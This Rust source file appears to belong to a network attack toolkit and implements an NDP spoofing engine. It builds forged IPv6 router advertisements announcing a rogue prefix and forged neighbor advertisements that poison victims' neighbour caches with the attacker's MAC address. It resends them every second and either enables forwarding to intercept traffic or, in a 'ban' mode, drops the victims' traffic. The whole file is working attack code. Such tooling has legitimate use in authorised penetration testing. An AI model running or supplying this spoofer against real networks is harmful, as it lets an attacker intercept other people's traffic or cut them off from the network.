use super::config::NdpSpoofConfig;
use crate::context::SpoofContext;
use crate::targets::Target;
use async_trait::async_trait;
use netspoof_core::{
    run_blocking, CancellationToken, Engine, EngineLoop, EngineStats, EngineStatsCounters, Error,
    MacAddr, Result,
};
use netspoof_packet::icmpv6::{ALL_NODES, ND_HOP_LIMIT};
use netspoof_packet::{NeighborAdvertisement, PacketBuilder, RouterAdvertisement};
use parking_lot::Mutex;
use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv6Addr};
use std::sync::Arc;
use std::time::Duration;
use tokio::time::{interval, MissedTickBehavior};
use tracing::{debug, error, info, trace, warn};

/// Valid lifetime of the advertised prefix, in seconds
pub const PREFIX_VALID_LIFETIME: u32 = 86400;
/// Preferred lifetime of the advertised prefix, in seconds
pub const PREFIX_PREFERRED_LIFETIME: u32 = 14400;

/// Router Advertisement for `prefix`, sent to all nodes
pub fn router_advertisement_frame(
    own_mac: MacAddr,
    own_ip: Ipv6Addr,
    prefix: Ipv6Addr,
    prefix_length: u8,
) -> Result<Vec<u8>> {
    let ra = RouterAdvertisement::new()
        .with_prefix(
            prefix,
            prefix_length,
            PREFIX_VALID_LIFETIME,
            PREFIX_PREFERRED_LIFETIME,
        )
        .with_source_ll(own_mac);

    PacketBuilder::new()
        .ethernet(own_mac, MacAddr::ipv6_all_nodes())
        .ipv6(own_ip, ALL_NODES)
        .hop_limit(ND_HOP_LIMIT)
        .icmpv6(ra.into_icmpv6())
        .build()
}

/// Neighbor Advertisement telling `victim` that `neighbour` is at `own_mac`
pub fn neighbor_advertisement_frame(
    own_mac: MacAddr,
    neighbour: Ipv6Addr,
    victim_mac: MacAddr,
    victim_ip: Ipv6Addr,
) -> Result<Vec<u8>> {
    let na = NeighborAdvertisement::new(neighbour, false).with_target_ll(own_mac);

    PacketBuilder::new()
        .ethernet(own_mac, victim_mac)
        .ipv6(neighbour, victim_ip)
        .hop_limit(ND_HOP_LIMIT)
        .icmpv6(na.into_icmpv6())
        .build()
}

#[derive(Debug, Clone)]
struct NdpPlan {
    own_mac: MacAddr,
    /// Set together with `prefix`
    own_ip: Option<Ipv6Addr>,
    neighbour: Option<Ipv6Addr>,
    prefix: Option<Ipv6Addr>,
    prefix_length: u8,
    targets: Vec<Target>,
}

/// NDP spoofer announcing a rogue prefix and impersonating a neighbour
pub struct NdpSpoofEngine {
    ctx: SpoofContext,
    config: Mutex<NdpSpoofConfig>,
    lp: EngineLoop,
}

impl NdpSpoofEngine {
    pub const NAME: &'static str = "ndp.spoof";

    pub fn new(ctx: SpoofContext, config: NdpSpoofConfig) -> Self {
        Self {
            ctx,
            config: Mutex::new(config),
            lp: EngineLoop::new(Self::NAME),
        }
    }

    /// Replace the configuration; only allowed while stopped
    pub fn configure(&self, config: NdpSpoofConfig) -> Result<()> {
        self.lp.ensure_stopped()?;
        *self.config.lock() = config;
        Ok(())
    }

    pub fn config(&self) -> NdpSpoofConfig {
        self.config.lock().clone()
    }

    /// Start without enabling forwarding, so the victims' traffic is dropped
    ///
    /// Forwarding that is already on (another engine relaying traffic) is
    /// left alone.
    pub async fn start_ban(&self) -> Result<()> {
        self.lp.ensure_stopped()?;
        self.config.lock().ban = true;
        self.start().await
    }

    fn plan(&self, config: &NdpSpoofConfig) -> Result<NdpPlan> {
        if config.neighbour.is_none() && config.prefix.is_none() {
            return Err(Error::configuration(
                "set a neighbour to impersonate or a prefix to advertise",
            ));
        }
        if config.prefix.is_some() && config.prefix_length > 128 {
            return Err(Error::invalid_parameter(
                "prefix_length",
                format!("{} exceeds 128", config.prefix_length),
            ));
        }

        let own_ip = match config.prefix {
            Some(_) => Some(self.ctx.interface.ipv6.ok_or_else(|| {
                Error::invalid_parameter(
                    "prefix",
                    format!(
                        "{} has no IPv6 address to advertise from",
                        self.ctx.interface.name
                    ),
                )
            })?),
            None => None,
        };

        for target in &config.targets {
            if let Target::Ip(IpAddr::V4(ip)) = target {
                warn!(target = %ip, "IPv4 target ignored by the NDP spoofer");
            }
        }

        Ok(NdpPlan {
            own_mac: self.ctx.interface.mac_address,
            own_ip,
            neighbour: config.neighbour,
            prefix: config.prefix,
            prefix_length: config.prefix_length,
            targets: config.targets.clone(),
        })
    }
}

fn mac_to_ipv6(ctx: &SpoofContext, mac: &MacAddr) -> Option<Ipv6Addr> {
    match ctx.tracker.inverse_lookup(mac, false) {
        Ok(addrs) => {
            if addrs.ipv6.is_none() {
                info!(mac = %mac, "no IPv6 address known for target");
            }
            addrs.ipv6
        }
        Err(e) => {
            info!(mac = %mac, error = %e, "could not find IPv6 for target");
            None
        }
    }
}

/// Current (IPv6, MAC) pairs for the configured targets
fn resolve_targets(targets: &[Target], ctx: &SpoofContext) -> BTreeMap<Ipv6Addr, MacAddr> {
    let mut resolved = BTreeMap::new();

    for target in targets {
        match target {
            Target::Ip(IpAddr::V4(_)) => {}
            Target::Ip(IpAddr::V6(ip)) => {
                let addr = IpAddr::V6(*ip);
                if ctx.registry.should_skip(addr) {
                    debug!(target = %ip, "skipping target");
                    continue;
                }
                ctx.tracker.probe(addr);
                match ctx.tracker.lookup(addr, false) {
                    Ok(mac) => {
                        resolved.insert(*ip, mac);
                    }
                    Err(e) => info!(target = %ip, error = %e, "could not find MAC for target"),
                }
            }
            Target::Mac(mac) => {
                if let Some(ip) = mac_to_ipv6(ctx, mac) {
                    if !ctx.registry.should_skip(IpAddr::V6(ip)) {
                        resolved.insert(ip, *mac);
                    }
                }
            }
            Target::Alias(alias) => match ctx.registry.resolve_alias(alias) {
                Some(mac) => {
                    if let Some(ip) = mac_to_ipv6(ctx, &mac) {
                        if !ctx.registry.should_skip(IpAddr::V6(ip)) {
                            resolved.insert(ip, mac);
                        }
                    }
                }
                None => info!(alias = %alias, "unknown alias"),
            },
        }
    }

    resolved
}

fn send_frame(ctx: &SpoofContext, counters: &EngineStatsCounters, frame: Result<Vec<u8>>) {
    match frame {
        Ok(frame) => {
            ctx.send(NdpSpoofEngine::NAME, &frame, counters);
        }
        Err(e) => {
            counters.increment_errors();
            error!(error = %e, "could not build ND message");
        }
    }
}

async fn spoof_loop(
    plan: NdpPlan,
    ctx: SpoofContext,
    counters: Arc<EngineStatsCounters>,
    token: CancellationToken,
) {
    let mut ticker = interval(Duration::from_secs(1));
    ticker.set_missed_tick_behavior(MissedTickBehavior::Delay);

    loop {
        tokio::select! {
            _ = token.cancelled() => break,
            _ = ticker.tick() => {}
        }

        if let (Some(prefix), Some(own_ip)) = (plan.prefix, plan.own_ip) {
            trace!(prefix = %prefix, "sending router advertisement");
            send_frame(
                &ctx,
                &counters,
                router_advertisement_frame(plan.own_mac, own_ip, prefix, plan.prefix_length),
            );
        }

        let Some(neighbour) = plan.neighbour else {
            continue;
        };

        // probes and table reads block
        let targets = plan.targets.clone();
        let lookup_ctx = ctx.clone();
        let resolved = run_blocking(move || Ok(resolve_targets(&targets, &lookup_ctx))).await;
        let resolved = match resolved {
            Ok(resolved) => resolved,
            Err(e) => {
                counters.increment_errors();
                warn!(error = %e, "target resolution failed");
                continue;
            }
        };

        for (victim_ip, victim_mac) in resolved {
            debug!(victim = %victim_ip, neighbour = %neighbour, "sending neighbor advertisement");
            send_frame(
                &ctx,
                &counters,
                neighbor_advertisement_frame(plan.own_mac, neighbour, victim_mac, victim_ip),
            );
        }
    }
}

#[async_trait]
impl Engine for NdpSpoofEngine {
    fn name(&self) -> &'static str {
        Self::NAME
    }

    fn description(&self) -> &'static str {
        "Send forged IPv6 router and neighbor advertisements"
    }

    async fn start(&self) -> Result<()> {
        self.lp.ensure_stopped()?;

        let config = self.config();
        let plan = self.plan(&config)?;

        if !config.ban {
            self.ctx.ensure_forwarding().await?;
        } else if self.ctx.forwarding_enabled().await? {
            warn!("ban mode requested but forwarding is already enabled, victims keep connectivity");
        } else {
            warn!("running in ban mode, forwarding not enabled");
        }

        let ctx = self.ctx.clone();
        let counters = self.lp.counters();
        let (neighbour, prefix) = (plan.neighbour, plan.prefix);
        let targets = plan.targets.len();
        self.lp
            .spawn(move |token| spoof_loop(plan, ctx, counters, token))?;

        info!(
            neighbour = ?neighbour,
            prefix = ?prefix,
            targets,
            ban = config.ban,
            "NDP spoofer started"
        );
        Ok(())
    }

    async fn stop(&self) -> Result<()> {
        self.config.lock().ban = false;
        self.lp.shutdown().await?;
        info!("NDP spoofer stopped");
        Ok(())
    }

    fn is_running(&self) -> bool {
        self.lp.is_running()
    }

    fn stats(&self) -> EngineStats {
        self.lp.stats()
    }
}
